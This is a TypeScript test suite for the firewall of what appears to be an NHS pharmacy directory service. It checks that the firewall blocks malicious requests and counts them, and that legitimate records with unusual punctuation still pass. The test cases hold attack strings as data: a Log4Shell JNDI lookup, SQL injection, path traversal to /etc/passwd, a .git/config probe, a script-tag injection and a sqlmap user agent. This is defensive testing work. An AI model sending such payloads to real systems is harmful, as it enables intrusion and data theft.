// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are attacks.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { odsCodeAt } from '#reference/pharmacies';
import { TEST_API_KEY } from '../../../../test/harness/app.ts';
import { createDirectoryApp, type DirectoryApp, pharmacyRecord } from '../testing/directory-app.ts';

interface Request {
  address?: string;
  method?: 'POST' | 'GET';
  url?: string;
  headers?: Record<string, string>;
  body?: object;
}

describe('the firewall of every profile but dev', () => {
  let app: DirectoryApp;
  let sequence = 0;
  before(async () => {
    app = await createDirectoryApp({
      environment: {
        PROFILE: 'demo',
        ENVIRONMENT: 'blue1',
        DIRECTORY_IP_ALLOW_LIST: '{"nhs":"203.0.113.0/24"}',
        DIRECTORY_BLOCKED_ADDRESSES: '{"scanner":"203.0.113.66/32"}',
        DIRECTORY_COUNTRY_HEADER: 'CloudFront-Viewer-Country',
      },
    });
  });
  after(() => app[Symbol.asyncDispose]());

  const send = (request: Request) => {
    sequence += 1;
    const { method = 'POST', body = { ODSCode: 'FX001' } } = request;
    return app.module('directory').inject({
      method,
      url: request.url ?? '/v1/change-event',
      remoteAddress: request.address ?? '203.0.113.7',
      headers: {
        'x-api-key': TEST_API_KEY,
        'sequence-number': String(sequence),
        'content-type': 'application/json',
        'cloudfront-viewer-country': 'GB',
        ...request.headers,
      },
      ...(method === 'POST' ? { payload: JSON.stringify(body) } : {}),
    });
  };
  const countOf = async (signal: string) => {
    const { body } = await app.console.inject({ url: '/metrics' });
    const line = body.split('\n').find((text) => text.includes(`signals_total{signal="${signal}"`));
    return Number(line?.split(' ').at(-1) ?? 0);
  };

  for (const [signal, name, request] of [
    ['blocked by allow list', 'an address that is not allowed', { address: '198.51.100.1' }],
    ['blocked by country', 'another country', { headers: { 'cloudfront-viewer-country': 'FR' } }],
    [
      'blocked by country',
      'a request that did not pass the ingress',
      { headers: { 'cloudfront-viewer-country': '' } },
    ],
    [
      'blocked by known bad inputs',
      'a look-up in a header',
      { headers: { 'user-agent': '${jndi:ldap://x/a}' } },
    ],
    ['blocked by known bad inputs', 'a look-up in the body', { body: { ODSCode: '${jndi:ldap://x/a}' } }],
    ['blocked by known bad inputs', 'the path of a well-known hole', { method: 'GET', url: '/.git/config' }],
    [
      'blocked by SQL injection',
      'SQL in the query',
      { url: "/v1/change-event?sequence-number=1'%20OR%201=1--" },
    ],
    [
      'blocked by SQL injection',
      'SQL in the body',
      { body: { ODSCode: 'FX001', City: "x' UNION SELECT secret FROM users" } },
    ],
    ['blocked by reputation', 'an address of bad repute', { address: '203.0.113.66' }],
    [
      'blocked by common rules',
      'a way out of the folder',
      { method: 'GET', url: '/v1/../../../../etc/passwd' },
    ],
    [
      'blocked by common rules',
      'a script in the body',
      { body: { ODSCode: 'FX001', City: '<script>alert(1)</script>' } },
    ],
    ['blocked by common rules', 'a scanner', { headers: { 'user-agent': 'sqlmap/1.7' } }],
  ] as [string, string, Request][]) {
    it(`blocks ${name}, before the key is looked at, and counts it`, async () => {
      const [before, stored] = [
        await countOf(signal),
        await app.sql('select from directory.received_events'),
      ];
      const answer = await send({ ...request, headers: { 'x-api-key': 'wrong', ...request.headers } });
      assert.equal(answer.statusCode, 403);
      assert.equal(answer.body, '{"message":"Forbidden"}');
      // A body comes after the key, whose refusal reads the same.
      if (request.body === undefined) assert.equal(await countOf(signal), before + 1);
      const withKey = await send(request);
      assert.equal(withKey.statusCode, 403);
      assert.equal(withKey.body, '{"message":"Forbidden"}');
      assert.equal(await countOf(signal), before + (request.body === undefined ? 2 : 1));
      assert.equal((await app.sql('select from directory.received_events')).length, stored.length);
    });
  }

  it('counts what may be SQL, what names no agent and what is large, and lets it pass', async () => {
    const names = ['counted SQL injection', 'counted without user agent', 'counted large body'];
    const before = await Promise.all(names.map(countOf));
    const body = { ODSCode: 'FX001', City: 'Select the best from us', Filler: 'x'.repeat(9_000) };
    assert.equal((await send({ body, headers: { 'user-agent': '' } })).statusCode, 200);
    assert.deepEqual(
      await Promise.all(names.map(countOf)),
      before.map((count) => count + 1),
    );
  });

  it('lets every record of a pharmacy pass, whatever its punctuation', async () => {
    const count = await countOf('counted SQL injection');
    const oddities = [
      {},
      { Address1: "14 o'neill parade, off St. John's & Sons -- unit #5; rear" },
      { OrganisationName: 'Union Street Pharmacy (Select Care) "24/7"', City: "KING'S LYNN" },
      { Contacts: [{ ContactValue: 'https://www.example.org/a/../b?on=1&load=2' }] },
    ];
    for (let index = 0; index < 30; index += 1) {
      const body = pharmacyRecord(odsCodeAt(index), oddities[index % oddities.length], index % 4);
      const answer = await send({ body });
      assert.equal(answer.statusCode, 200, JSON.stringify(body));
    }
    assert.equal(await countOf('counted SQL injection'), count);
  });

  it('raises the alarms of the original', async () => {
    for (let times = 0; times < 2; times += 1) await send({ address: '203.0.113.66' });
    const raised = await app.command<{ name: string }[]>('alarms', { check: true, raised: true });
    const titles = raised.map(({ name }) => name.split(' | ')[2]);
    assert.ok(titles.includes('WAF AWS Managed IP Reputation List Blocked Requests'), titles.join(', '));
  });

  it('does not stand before the health check', async () => {
    const answer = await app.module('directory').inject({ url: '/health', remoteAddress: '198.51.100.1' });
    assert.equal(answer.statusCode, 200);
    assert.equal(answer.json().components.pipeline.status, 'UP');
  });
});
